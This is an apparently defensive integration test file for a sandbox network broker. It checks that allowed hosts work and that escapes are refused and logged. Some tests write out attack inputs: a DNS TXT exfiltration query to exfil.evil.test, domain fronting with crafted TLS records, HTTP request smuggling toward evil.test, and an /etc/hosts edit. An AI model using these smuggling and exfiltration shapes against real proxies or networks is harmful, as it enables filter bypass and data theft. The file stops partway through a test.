/**
 * Egress in a real sandbox: the allowed name works for clients that use the
 * proxy variables and for clients that ignore them; everything else fails
 * at once and is recorded. Servers on the host loopback stand in for the
 * internet; the broker maps every allowed name to 127.0.0.1.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, readlinkSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer as createHttp, type Server } from 'node:http';
import { createServer as createHttps } from 'node:https';
import { createServer as createTcp, type AddressInfo } from 'node:net';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { PolicyError, run } from '../../src/index.js';
import type { NetEvent } from '../../src/net/broker.js';
import type { PolicyFile } from '../../src/policy/schema.js';
import { hasCgroup, sandboxFixture, tempDir, ward, which } from '../helpers.js';

const fx = sandboxFixture();
const servers: Server[] = [];
let httpPort = 0;
let httpsPort = 0;
let bannerPort = 0;
let localPort = 0;
let otherLocalPort = 0;
let authPort = 0;
let bodyPort = 0;
let lenientPort = 0;
let sinkPort = 0;
const sinkGot: number[] = []; // bytes each connection to the sink received (it answers nothing)
const lenientSeen: string[] = []; // "host method path" of every request the lenient server served
const bodySeen: string[] = []; // "host method url body-length" of every request the body-counting server got
let testCa = '';
let testKey = '';
let authConns = 0; // TLS connections the credential host accepted
const authSeen: string[] = []; // the Authorization header (and any X-Other) each request to the credential host carried
const seen: string[] = []; // "host url" of every request the stand-in internet received
// Per connection to the banner server: whether this process (Ward, with its broker) holds the
// connection's client end. null: the socket was not found in /proc/net/tcp.
const bannerPeers: Array<boolean | null> = [];

/** Whether this process holds the TCP socket 127.0.0.1:from -> 127.0.0.1:to (found by inode). */
function holdsSocket(from: number, to: number): boolean | null {
  const hex = (p: number) => `:${p.toString(16).toUpperCase().padStart(4, '0')}`;
  const row = readFileSync('/proc/net/tcp', 'utf8')
    .split('\n')
    .slice(1)
    .map((l) => l.trim().split(/\s+/))
    .find((c) => c[1]?.endsWith(hex(from)) && c[2]?.endsWith(hex(to)));
  if (!row) return null;
  const link = `socket:[${row[9]}]`;
  return readdirSync('/proc/self/fd').some((fd) => {
    try {
      return readlinkSync(`/proc/self/fd/${fd}`) === link;
    } catch {
      return false;
    }
  });
}

const listen = (s: Server) =>
  new Promise<number>((r) => {
    servers.push(s);
    s.listen(0, '127.0.0.1', () => r((s.address() as AddressInfo).port));
  });

before(async () => {
  const certDir = tempDir();
  execFileSync('openssl', [
    'req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-subj', '/CN=api.test',
    '-addext', 'subjectAltName=DNS:api.test,DNS:evil.test',
    '-keyout', path.join(certDir, 'key.pem'), '-out', path.join(certDir, 'cert.pem'),
  ], { stdio: 'ignore' });
  // The sandbox trusts the test CA through a file in its workspace.
  writeFileSync(path.join(fx.ws, 'ca.pem'), readFileSync(path.join(certDir, 'cert.pem')));
  const handler = (req: { headers: { host?: string }; url?: string }, res: { end(s: string): void }) => {
    seen.push(`${req.headers.host} ${req.url}`);
    res.end(`hello ${req.url}\n`);
  };
  testCa = readFileSync(path.join(certDir, 'cert.pem'), 'utf8');
  testKey = readFileSync(path.join(certDir, 'key.pem'), 'utf8');
  const authServer = createHttps({ key: readFileSync(path.join(certDir, 'key.pem')), cert: testCa }, (req, res) => {
    authSeen.push(`${req.headers.authorization ?? '-'} ${req.headers['x-other'] ?? '-'}`);
    res.end(`auth ${req.headers.authorization ?? 'none'}\n`);
  });
  authServer.on('secureConnection', () => authConns++);
  authPort = await listen(authServer);
  httpPort = await listen(createHttp(handler));
  httpsPort = await listen(createHttps({ key: readFileSync(path.join(certDir, 'key.pem')), cert: readFileSync(path.join(certDir, 'cert.pem')) }, handler));
  bannerPort = await listen(
    createTcp((s) => {
      bannerPeers.push(holdsSocket(s.remotePort!, bannerPort));
      s.end('SSH-2.0-stand-in\r\n');
    }) as unknown as Server,
  );
  localPort = await listen(createTcp((s) => s.end('LOCAL-DEV-SERVER\n')) as unknown as Server);
  bodyPort = await listen(
    createHttp((req, res) => {
      let n = 0;
      req.on('data', (d: Buffer) => (n += d.length));
      req.on('end', () => {
        bodySeen.push(`${req.headers.host} ${req.method} ${req.url} ${n}`);
        res.end(`got ${req.url} ${n}\n`);
      });
    }),
  );
  otherLocalPort = await listen(createTcp((s) => s.end('OTHER-HOST-SERVICE\n')) as unknown as Server);
  sinkPort = await listen(
    createTcp((s) => {
      const i = sinkGot.push(0) - 1;
      s.on('error', () => {});
      s.on('data', (d: Buffer) => (sinkGot[i]! += d.length));
    }) as unknown as Server,
  );
  // As lenient as Python's http.server: the request line split on any whitespace, a body on GET
  // left unread (its bytes are read as the next request), kept alive unless Connection: close.
  lenientPort = await listen(
    createTcp((s) => {
      let buf = '';
      let closed = false;
      s.on('error', () => {});
      s.on('data', (d: Buffer) => {
        if (closed) return;
        buf += d.toString('latin1');
        for (let end = buf.indexOf('\r\n\r\n'); end >= 0 && !closed; end = buf.indexOf('\r\n\r\n')) {
          const lines = buf.slice(0, end).replace(/^[\r\n]+/, '').split('\r\n');
          buf = buf.slice(end + 4);
          const words = lines[0]!.split(/\s+/).filter((w) => w !== '');
          const header = (n: string) => lines.slice(1).find((l) => l.toLowerCase().startsWith(`${n}:`))?.slice(n.length + 1).trim();
          if (words.length !== 3 || !words[2]!.startsWith('HTTP/')) {
            closed = true;
            s.end('HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n');
            return;
          }
          if (words[0] === 'POST') buf = buf.slice(Number(header('content-length') ?? 0));
          lenientSeen.push(`${header('host')} ${words[0]} ${words[1]}`);
          s.write(`HTTP/1.1 200 OK\r\nContent-Length: ${words[1]!.length + 8}\r\n\r\nserved ${words[1]}\n`);
          if (header('connection')?.toLowerCase() === 'close') {
            closed = true;
            s.end();
          }
        }
      });
    }) as unknown as Server,
  );
});

after(() => {
  for (const s of servers) s.close();
});

function policy(): PolicyFile {
  return {
    extends: ['default'],
    network: { allow: [`api.test:${httpPort}`, `api.test:${httpsPort}`, `*.pkg.test:${httpPort}`, `git.test:${bannerPort}`, `api.test:${bodyPort}`, `api.test:${lenientPort}`, `api.test:${sinkPort}`], allow_local: [localPort] },
  } as PolicyFile;
}

/** Runs argv in the workspace under `p` (default: this file's policy); every name resolves to the stand-in internet. */
async function sandboxed(argv: string[], p: PolicyFile = policy()) {
  const r = await run({ policy: p }, argv, {
    workspace: fx.ws,
    env: fx.env,
    stdin: 'ignore',
    allowDegraded: !hasCgroup,
    egress: { resolve: async () => '127.0.0.1' },
  });
  return { ...r, out: r.stdout.toString() + r.stderr.toString() };
}

/** What the Python snippets share: read a socket until the peer closes it. */
const PY_PRELUDE = `
def read_all(s):
    data = b''
    while True:
        c = s.recv(65536)
        if not c: return data
        data += c
`;
const py = (code: string) => sandboxed(['python3', '-c', PY_PRELUDE + code]);

/** Whether the python3 on PATH has pip (Debian splits it into python3-pip). */
function pipWorks(): boolean {
  try {
    execFileSync('python3', ['-m', 'pip', '--version'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}
const denied = (events: NetEvent[]) => events.filter((e) => e.verdict === 'deny');

describe('egress through the broker, in a real sandbox', () => {
  it('a client that ignores proxy variables reaches an allowed name by a raw connect()', async () => {
    const r = await py(`
import socket
ip = socket.gethostbyname('api.test')
print('resolved', ip)
s = socket.create_connection(('api.test', ${httpPort}), timeout=5)
s.sendall(b'GET /raw HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n')
print(read_all(s).decode().splitlines()[-1])
`);
    assert.equal(r.exitCode, 0, r.out);
    assert.match(r.out, /resolved 127\.100\.\d+\.\d+/);
    assert.match(r.out, /hello \/raw/);
    const conn = r.net.find((e) => e.kind === 'connect' && e.port === httpPort);
    assert.equal(conn?.verdict, 'allow');
    assert.equal(conn?.host, 'api.test');
    // The relay's count: exactly the request, and the response.
    assert.equal(conn?.bytes_out, Buffer.byteLength('GET /raw HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n'), JSON.stringify(conn));
    assert.ok((conn?.bytes_in ?? 0) > 'hello /raw'.length, JSON.stringify(conn));
    assert.equal(conn?.note, undefined);
  });

  it('curl (proxy variables) and wget work for allowed names, HTTP and HTTPS', { skip: !which('curl') && 'curl is not installed' }, async () => {
    const r = await sandboxed([
      'sh', '-c',
      `curl -sS --cacert ca.pem https://api.test:${httpsPort}/tls && curl -sS http://api.test:${httpPort}/plain && curl -sS http://a.b.pkg.test:${httpPort}/wild` +
        (which('wget') ? ` && wget -q -O - http://api.test:${httpPort}/wget` : ''),
    ]);
    assert.equal(r.exitCode, 0, r.out);
    assert.match(r.out, /hello \/tls/);
    assert.match(r.out, /hello \/plain/);
    assert.match(r.out, /hello \/wild/);
    assert.ok(r.net.some((e) => e.kind === 'proxy' && e.verdict === 'allow' && e.port === httpsPort));
  });

  it("Node's fetch (no proxy support in Node 20) and Python's ssl with SNI work through DNS and the relay", async () => {
    const node = await sandboxed([process.execPath, '-e', `fetch('http://api.test:${httpPort}/fetch').then(r=>r.text()).then(t=>console.log(t.trim()),e=>{console.log('ERR',e.cause?.code||e);process.exit(1)})`]);
    assert.equal(node.exitCode, 0, node.out);
    assert.match(node.out, /hello \/fetch/);
    const tls = await py(`
import socket, ssl
ctx = ssl.create_default_context(cafile='ca.pem')
with socket.create_connection(('api.test', ${httpsPort}), timeout=5) as raw:
    with ctx.wrap_socket(raw, server_hostname='api.test') as s:
        s.sendall(b'GET /py-tls HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n')
        print(s.recv(4096).decode().splitlines()[0])
`);
    assert.equal(tls.exitCode, 0, tls.out);
    assert.match(tls.out, /HTTP\/1\.1 200/);
  });

  it('domain fronting: a TLS SNI other than the name the client resolved is refused', async () => {
    const r = await py(`
import socket, ssl
ctx = ssl.create_default_context(cafile='ca.pem')
raw = socket.create_connection(('api.test', ${httpsPort}), timeout=5)
try:
    s = ctx.wrap_socket(raw, server_hostname='evil.test')
    s.sendall(b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')
    print('FRONTED', s.recv(100))
except (ssl.SSLError, ConnectionError, OSError) as e:
    print('refused', type(e).__name__)
`);
    assert.doesNotMatch(r.out, /FRONTED/);
    assert.match(r.out, /refused/);
    assert.ok(denied(r.net).some((e) => e.reason === 'sni-mismatch'), JSON.stringify(r.net));
  });

  it('domain fronting past the SNI check with TLS record tricks (an alert record first, record version 00 00): refused, raw and through the proxy; the server gets no byte', async () => {
    const before = sinkGot.length;
    const r = await py(`
import socket, ssl
def client_hello(sni):
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    o = ssl.create_default_context().wrap_bio(inc, out, server_hostname=sni)
    try:
        o.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()
evil = client_hello('evil.test')
tricks = {'alert': bytes([21, 3, 1, 0, 2, 1, 100]) + evil, 'v00': evil[:1] + b'\\0\\0' + evil[3:]}
for name, data in tricks.items():
    for via in ('raw', 'proxy'):
        if via == 'raw':
            s = socket.create_connection(('api.test', ${sinkPort}), timeout=5)
        else:
            s = socket.create_connection(('127.0.0.1', 3128), timeout=5)
            s.sendall(b'CONNECT api.test:${sinkPort} HTTP/1.1\\r\\nHost: api.test:${sinkPort}\\r\\n\\r\\n')
            head = b''
            while b'\\r\\n\\r\\n' not in head:
                head += s.recv(1)
        s.sendall(data)
        try:
            print(name, via, 'closed' if read_all(s) == b'' else 'answered')
        except ConnectionError as e:
            print(name, via, 'closed')
        except socket.timeout:
            print(name, via, 'OPEN')
`);
    assert.equal(r.exitCode, 0, r.out);
    for (const line of ['alert raw', 'alert proxy', 'v00 raw', 'v00 proxy']) assert.match(r.out, new RegExp(`^${line} closed$`, 'm'), r.out);
    assert.deepEqual(sinkGot.slice(before).filter((n) => n > 0), [], 'the server received the trick');
    const refused = denied(r.net).filter((e) => e.port === sinkPort);
    assert.deepEqual(refused.map((e) => `${e.kind} ${e.reason}`).sort(), ['connect malformed-tls', 'connect malformed-tls', 'proxy malformed-tls', 'proxy malformed-tls'], JSON.stringify(r.net));
  });

  it('a wrong Host header over plain HTTP is refused', async () => {
    const r = await py(`
import socket
s = socket.create_connection(('api.test', ${httpPort}), timeout=5)
s.sendall(b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')
print('got', s.recv(100))
`);
    assert.doesNotMatch(r.out, /hello/);
    assert.ok(denied(r.net).some((e) => e.reason === 'host-mismatch'), JSON.stringify(r.net));
  });

  it('a server-first protocol (an SSH-like banner) works on an allowed name', async () => {
    const r = await py(`
import socket
s = socket.create_connection(('git.test', ${bannerPort}), timeout=5)
print(s.recv(100).decode().strip())
`);
    assert.equal(r.exitCode, 0, r.out);
    assert.match(r.out, /SSH-2\.0-stand-in/);
    // The relay's dialer made the upstream connection and the relay holds it: Ward's process
    // (Node, the broker) decided it but is not in its data path.
    assert.equal(bannerPeers.at(-1), false, 'the upstream socket is not held by Ward\'s process');
    const conn = r.net.find((e) => e.kind === 'connect' && e.port === bannerPort);
    assert.equal(conn?.bytes_in, 'SSH-2.0-stand-in\r\n'.length, JSON.stringify(conn));
    assert.equal(conn?.note, undefined);
  });

  it('kept-alive plain HTTP: a second request on the same connection for another Host is refused (403 naming the rule) and recorded; the first is answered', async () => {
    const before = bodySeen.length;
    const r = await py(`
import socket
s = socket.create_connection(('api.test', ${bodyPort}), timeout=5)
s.sendall(b'GET /one HTTP/1.1\\r\\nHost: api.test:${bodyPort}\\r\\n\\r\\n')
first = s.recv(4096).decode()
print('FIRST', first.splitlines()[0], first.splitlines()[-1])
s.sendall(b'GET /two HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')
print('SECOND', read_all(s).decode())
`);
    assert.equal(r.exitCode, 0, r.out);
    assert.match(r.out, /FIRST HTTP\/1\.1 200 OK got \/one 0/);
    assert.match(r.out, /SECOND HTTP\/1\.1 403 Forbidden/);
    assert.match(r.out, new RegExp(`add "evil\\.test:${bodyPort}" to network\\.allow`));
    assert.deepEqual(bodySeen.slice(before), [`api.test:${bodyPort} GET /one 0`], 'the request for evil.test never reached the server');
    const reqs = r.net.filter((e) => e.kind === 'http');
    assert.deepEqual(reqs.map((e) => `${e.verdict} ${e.host} ${e.method} ${e.path} ${e.reason ?? e.rule}`), [
      `allow api.test GET /one api.test:${bodyPort}`,
      `deny api.test GET /two host-mismatch`,
    ]);
    const conn = r.net.find((e) => e.kind === 'connect' && e.port === bodyPort);
    assert.equal(conn?.verdict, 'allow');
    assert.match(conn?.note ?? '', /a later one was refused/);
  });

  it('pipelined requests, a chunked body then a second request, and a smuggling shape (Content-Length with Transfer-Encoding), from inside', async () => {
    const before = bodySeen.length;
    const r = await py(`
import socket
def exchange(payload):
    s = socket.create_connection(('api.test', ${bodyPort}), timeout=5)
    s.sendall(payload)
    s.shutdown(socket.SHUT_WR)
    return read_all(s).decode()
H = b'Host: api.test:${bodyPort}\\r\\n'
print('PIPE', exchange(b'GET /p1 HTTP/1.1\\r\\n' + H + b'\\r\\nGET /p2 HTTP/1.1\\r\\n' + H + b'\\r\\nGET /p3 HTTP/1.1\\r\\n' + H + b'Connection: close\\r\\n\\r\\n').count('HTTP/1.1 200'))
inner = b'GET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'
chunked = b'POST /chunked HTTP/1.1\\r\\n' + H + b'Transfer-Encoding: chunked\\r\\n\\r\\n' + (b'%x' % len(inner)) + b'\\r\\n' + inner + b'\\r\\n0\\r\\n\\r\\n'
out = exchange(chunked + b'GET /next HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')
print('CHUNKED', out.count('HTTP/1.1 200'), out.count('HTTP/1.1 403'))
out = exchange(b'GET /ok HTTP/1.1\\r\\n' + H + b'\\r\\nPOST /x HTTP/1.1\\r\\n' + H + b'Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /evil HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')
print('SMUGGLE', out.count('HTTP/1.1 200'), out.count('HTTP/1.1 400'))
`);
    assert.equal(r.exitCode, 0, r.out);
    assert.match(r.out, /PIPE 3/);
    assert.match(r.out, /CHUNKED 1 1/);
    assert.match(r.out, /SMUGGLE 1 1/);
    const inner = 'GET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n';
    assert.deepEqual(bodySeen.slice(before), [
      `api.test:${bodyPort} GET /p1 0`,
      `api.test:${bodyPort} GET /p2 0`,
      `api.test:${bodyPort} GET /p3 0`,
      `api.test:${bodyPort} POST /chunked ${inner.length}`,
      `api.test:${bodyPort} GET /ok 0`,
    ]);
    assert.ok(r.net.some((e) => e.kind === 'http' && e.verdict === 'deny' && e.reason === 'malformed'), JSON.stringify(r.net));
  });

  it('a request line a lenient server reads (a tab, leading whitespace) is refused, raw and inside a CONNECT tunnel; it never reaches the server', async () => {
    const before = lenientSeen.length;
    const r = await py(`
import os, socket
from urllib.parse import urlsplit
def exchange(addr, payload):
    s = socket.create_connection(addr, timeout=5)
    s.sendall(payload)
    return read_all(s).decode('latin1')
for name, line in [('tab', b'GET\\t/tab HTTP/1.1'), ('lead', b' GET /lead HTTP/1.1')]:
    out = exchange(('api.test', ${lenientPort}), line + b'\\r\\nHost: evil.test\\r\\n\\r\\n')
    print('RAW', name, out.split('\\r\\n')[0])
p = urlsplit(os.environ['HTTP_PROXY'])
out = exchange((p.hostname, p.port), b'CONNECT api.test:${lenientPort} HTTP/1.1\\r\\nHost: api.test:${lenientPort}\\r\\n\\r\\nGET\\t/tunnel HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')
print('TUNNEL', repr(out[-40:]), 'served' in out)
print('CONTROL', exchange(('api.test', ${lenientPort}), b'GET /ok HTTP/1.1\\r\\nHost: api.test:${lenientPort}\\r\\nConnection: close\\r\\n\\r\\n').split('\\r\\n')[0])
`);
    assert.equal(r.exitCode, 0, r.out);
    assert.match(r.out, /RAW tab HTTP\/1\.1 400 Bad Request/);
    assert.match(r.out, /RAW lead HTTP\/1\.1 400 Bad Request/);
    assert.match(r.out, /TUNNEL .* False/);
    assert.match(r.out, /CONTROL HTTP\/1\.1 200 OK/);
    assert.deepEqual(lenientSeen.slice(before), [`api.test:${lenientPort} GET /ok`], 'only the well-formed request reached the server');
    assert.equal(denied(r.net).filter((e) => e.port === lenientPort && e.reason === 'malformed').length, 2, JSON.stringify(r.net));
    assert.ok(denied(r.net).some((e) => e.kind === 'proxy' && e.reason === 'http-in-tunnel'), JSON.stringify(r.net));
  });

  it('a body on GET is not read as a second request by a server that ignores GET bodies: it goes with Connection: close, and the audit log has every request', async () => {
    const before = lenientSeen.length;
    const r = await py(`
import socket
inner = b'GET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'
s = socket.create_connection(('api.test', ${lenientPort}), timeout=5)
s.sendall(b'GET /first HTTP/1.1\\r\\nHost: api.test:${lenientPort}\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(inner) + inner + b'GET /third HTTP/1.1\\r\\nHost: api.test:${lenientPort}\\r\\n\\r\\n')
out = read_all(s).decode('latin1')
print('SERVED', out.count('served'), 'FORBIDDEN', out.count('403 Forbidden'))
`);
    assert.equal(r.exitCode, 0, r.out);
    assert.match(r.out, /SERVED 1 FORBIDDEN 1/);
    assert.deepEqual(lenientSeen.slice(before), [`api.test:${lenientPort} GET /first`], 'the body was never a request to the server, /third never reached it');
    const reqs = r.net.filter((e) => e.kind === 'http');
    assert.deepEqual(reqs.map((e) => `${e.verdict} ${e.path}`), ['allow /first', 'deny /third']);
  });

  it('a large body passes whole with exact byte counts; Python http.client and curl keep-alive work for the allowed host', async () => {
    const before = bodySeen.length;
    const size = 4 * 1024 * 1024 + 3;
    const r = await py(`
import http.client
c = http.client.HTTPConnection('api.test', ${bodyPort}, timeout=10)
c.request('PUT', '/big', body=b'x' * ${size})
print(c.getresponse().read().decode().strip())
for i in range(3):
    c.request('GET', '/keep%d' % i)
    print(c.getresponse().read().decode().strip())
`);
    assert.equal(r.exitCode, 0, r.out);
    assert.match(r.out, new RegExp(`got /big ${size}\\n got /keep0 0\\ngot /keep1 0\\ngot /keep2 0`.replace(/\\n /g, '\\n')));
    assert.deepEqual(bodySeen.slice(before), [`api.test:${bodyPort} PUT /big ${size}`, `api.test:${bodyPort} GET /keep0 0`, `api.test:${bodyPort} GET /keep1 0`, `api.test:${bodyPort} GET /keep2 0`]);
    const conns = r.net.filter((e) => e.kind === 'connect' && e.port === bodyPort);
    assert.equal(conns.length, 1, 'one kept-alive connection');
    const reqs = r.net.filter((e) => e.kind === 'http');
    assert.equal(reqs.length, 4);
    const put = reqs[0]!;
    assert.equal(put.method, 'PUT');
    assert.ok(put.bytes_out! > size && put.bytes_out! < size + 300, JSON.stringify(put));
    assert.equal(conns[0]!.bytes_out, reqs.reduce((n, e) => n + e.bytes_out!, 0), 'the connection carried exactly its requests');
    if (which('curl')) {
      const c = await sandboxed(['curl', '-sS', '--noproxy', '*', `http://api.test:${bodyPort}/c1`, `http://api.test:${bodyPort}/c2`]);
      assert.equal(c.exitCode, 0, c.out);
      assert.match(c.out, /got \/c1 0\ngot \/c2 0/);
      assert.equal(c.net.filter((e) => e.kind === 'connect' && e.port === bodyPort).length, 1, 'curl kept the connection alive');
      const viaProxy = await sandboxed(['curl', '-sS', `http://api.test:${bodyPort}/p1`, `http://api.test:${bodyPort}/p2`]);
      assert.equal(viaProxy.exitCode, 0, viaProxy.out);
      assert.match(viaProxy.out, /got \/p1 0\ngot \/p2 0/);
    }
  });

  it('2,000 refused connects from inside: each refused at once; the records stay bounded, the summaries count every one, the log verifies', async () => {
    const r = await py(`
import socket  # flood-2000
refused = 0
for i in range(2000):
    try:
        s = socket.create_connection(('127.0.0.1', ${httpPort}), timeout=5)  # caught by the relay (an allowed port), refused by the broker
        data = s.recv(100)
        if not data: refused += 1
        s.close()
    except OSError:
        refused += 1
print('refused', refused)
`);
    assert.equal(r.exitCode, 0, r.out);
    assert.match(r.out, /refused 2000/);
    const mine = r.net.filter((e) => e.verdict === 'deny' && e.port === httpPort);
    const single = mine.filter((e) => e.count === undefined);
    const summaries = mine.filter((e) => e.count !== undefined);
    assert.ok(single.length <= 100, `${single.length} one by one`);
    assert.ok(summaries.length >= 1 && summaries.length < 20, `${summaries.length} summaries`);
    assert.equal(single.length + summaries.reduce((n, e) => n + e.count!, 0), 2000, 'exactly every refusal');
    const log = path.join(fx.home, '.local/state/ward/audit.jsonl');
    const records = readFileSync(log, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    const launch = [...records].reverse().find((x) => x.type === 'launch' && JSON.stringify(x.argv).includes('flood-2000'));
    assert.ok(launch, 'the launch record is in the log');
    const ofRun = records.filter((x) => x.run_id === launch.run_id);
    assert.ok(ofRun.length < 200, `${ofRun.length} records for the run`);
    assert.equal(ofRun.filter((x) => x.type === 'net' && typeof x.count === 'number').reduce((n, x) => n + (x.count as number), 0) + ofRun.filter((x) => x.type === 'net' && x.verdict === 'deny' && x.count === undefined && x.port === httpPort).length, 2000);
    assert.equal(ofRun.at(-1)?.type, 'exit', 'the summaries come before the exit record');
    const verified = ward(['audit', 'verify', log], { env: fx.env });
    assert.equal(verified.code, 0, verified.stdout + verified.stderr);
  });

  it('names not allowed get NXDOMAIN, also for TXT (DNS exfiltration); each query is recorded', async () => {
    const r = await py(`
import socket, struct, random
try:
    socket.gethostbyname('evil.test'); print('RESOLVED evil.test')
except socket.gaierror as e: print('evil.test', e.errno)
# A hand-made TXT query for a name carrying data, straight to the resolver in resolv.conf.
name = b''.join(bytes([len(l)]) + l for l in [b'c2VjcmV0', b'exfil', b'evil', b'test']) + b'\\0'
q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack('>HH', 16, 1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
u.sendto(q, ('127.0.0.1', 53))
resp = u.recv(512)
print('rcode', resp[3] & 15, 'answers', struct.unpack('>H', resp[6:8])[0])
`);
    assert.doesNotMatch(r.out, /RESOLVED/);
    assert.match(r.out, /rcode 3 answers 0/);
    const dns = denied(r.net).filter((e) => e.kind === 'dns');
    assert.ok(dns.some((e) => e.host === 'evil.test'), JSON.stringify(dns));
    assert.ok(dns.some((e) => e.host === 'c2vjcmv0.exfil.evil.test' || e.host === 'c2VjcmV0.exfil.evil.test'.toLowerCase()), JSON.stringify(dns));
  });

  it('DNS over TCP to the resolver answers like UDP (allowed: synthetic address; other: NXDOMAIN)', async () => {
    const r = await py(`
import socket, struct
def ask(name):
    q = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', 1, 1)
    s = socket.create_connection(('127.0.0.1', 53), timeout=5)
    s.sendall(struct.pack('>H', len(q)) + q)
    n = struct.unpack('>H', s.recv(2))[0]
    r = b''
    while len(r) < n: r += s.recv(n - len(r))
    print(name, 'rcode', r[3] & 15, 'answer', socket.inet_ntoa(r[-4:]) if struct.unpack('>H', r[6:8])[0] else '-')
ask('api.test'); ask('evil.test')
`);
    assert.match(r.out, /^api\.test rcode 0 answer 127\.100\.\d+\.\d+$/m, r.out);
    assert.match(r.out, /^evil\.test rcode 3 answer -$/m, r.out);
  });

  it('direct IPs, IPv6, UDP and ports not allowed fail at once; /etc/hosts cannot be edited', async () => {
    const r = await py(`
import socket, errno
def attempt(label, fn):
    try:
        fn(); print(label, 'OPEN')
    except OSError as e:
        print(label, errno.errorcode.get(e.errno, e.errno) if e.errno else type(e).__name__)
attempt('ip', lambda: socket.create_connection(('93.184.216.34', 443), timeout=3))
attempt('ip6', lambda: socket.create_connection(('2606:2800:220:1::', 443), timeout=3))
attempt('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53)))
def port():
    s = socket.create_connection(('api.test', 22), timeout=3)
    if not s.recv(10): raise ConnectionResetError(errno.ECONNRESET, 'closed')
attempt('port', port)
attempt('hosts', lambda: open('/etc/hosts', 'a').write('127.0.0.1 evil.test\\n'))
`);
    assert.match(r.out, /^ip ENETUNREACH$/m);
    assert.match(r.out, /^ip6 (ENETUNREACH|EADDRNOTAVAIL)$/m);
    assert.match(r.out, /^udp ENETUNREACH$/m);
    assert.match(r.out, /^port (ECONNREFUSED|ECONNRESET)$/m);
    assert.match(r.out, /^hosts (EROFS|EACCES|EPERM)$/m);
    assert.doesNotMatch(r.out, /OPEN/);
  });

  it('the proxy refuses a name that is not allowed with a 403 naming the rule to add', async () => {
    const r = await sandboxed(['curl', '-sS', '-i', `http://evil.test:${httpPort}/`]);
    assert.match(r.out, /HTTP\/1\.1 403/);
    assert.match(r.out, new RegExp(`add "evil\\.test:${httpPort}" to network\\.allow`));
    const https = await sandboxed(['curl', '-sS', `https://evil.test:${httpsPort}/`]);
    assert.notEqual(https.exitCode, 0);
    assert.ok(denied(https.net).some((e) => e.kind === 'proxy' && e.host === 'evil.test'), JSON.stringify(https.net));
  });

  it('allow_local reaches the listed host loopback port and no other', async () => {
    const r = await py(`
import socket
print(socket.create_connection(('127.0.0.1', ${localPort}), timeout=3).recv(100).decode().strip())
try:
    s = socket.create_connection(('127.0.0.1', ${otherLocalPort}), timeout=3); print('OTHER', s.recv(100))
except OSError as e: print('other refused', e.errno)
`);
    assert.match(r.out, /LOCAL-DEV-SERVER/);
    assert.doesNotMatch(r.out, /OTHER-HOST-SERVICE/);
    assert.match(r.out, /other refused/);
  });

  it('a relay that stops mid-run (SIGTERM from the host) is reported: a network denial in the result, the network gone after it, not silently', async () => {
    // In the workspace: the sandbox sees both.
    const connected = path.join(fx.ws, 'relay-connected');
    const stopped = path.join(fx.ws, 'relay-stopped');
    for (const f of [connected, stopped]) rmSync(f, { force: true });
    // This run's relay: its command line names the run directory, which is named after this process.
    const ours = new RegExp(`/net-${process.pid}-[^/]*/egress\\.sock$`);
    // Once the command has connected: SIGTERM the relay, and tell the command once it is gone.
    const killed: string[] = [];
    let looked = false;
    const watcher = setInterval(() => {
      if (!existsSync(connected)) return;
      if (!looked) {
        looked = true;
        for (const d of readdirSync('/proc').filter((x) => /^\d+$/.test(x))) {
          try {
            if (readFileSync(`/proc/${d}/comm`, 'utf8').trim() !== 'ward-relay') continue;
            if (!readFileSync(`/proc/${d}/cmdline`, 'utf8').split('\0').some((a) => ours.test(a))) continue;
            process.kill(Number(d), 'SIGTERM');
            killed.push(d);
          } catch {
            /* gone meanwhile */
          }
        }
      }
      if (killed.some((d) => existsSync(`/proc/${d}`))) return;
      clearInterval(watcher);
      writeFileSync(stopped, '');
    }, 20);
    try {
      const r = await sandboxed(['python3', '-c', `
import socket, os, time, errno
print(socket.create_connection(('127.0.0.1', ${localPort}), timeout=3).recv(100).decode().strip())
open(${JSON.stringify(connected)}, 'w').close()
for _ in range(500):
    if os.path.exists(${JSON.stringify(stopped)}): break
    time.sleep(0.02)
try:
    socket.create_connection(('127.0.0.1', ${localPort}), timeout=3).recv(100); print('after: connected')
except OSError as e: print('after:', errno.errorcode.get(e.errno, e.errno))
`]);
      assert.match(r.out, /LOCAL-DEV-SERVER/);
      assert.equal(killed.length, 1, 'this run\'s relay was found and stopped');
      assert.match(r.out, /^after: ECONNREFUSED$/m, r.out);
      assert.equal(r.exitCode, 0, 'the command\'s own status: the run is reported, not failed');
      const d = r.denials.find((x) => x.layer === 'network');
      assert.ok(d, JSON.stringify(r.denials));
      assert.equal(d.what, 'relay');
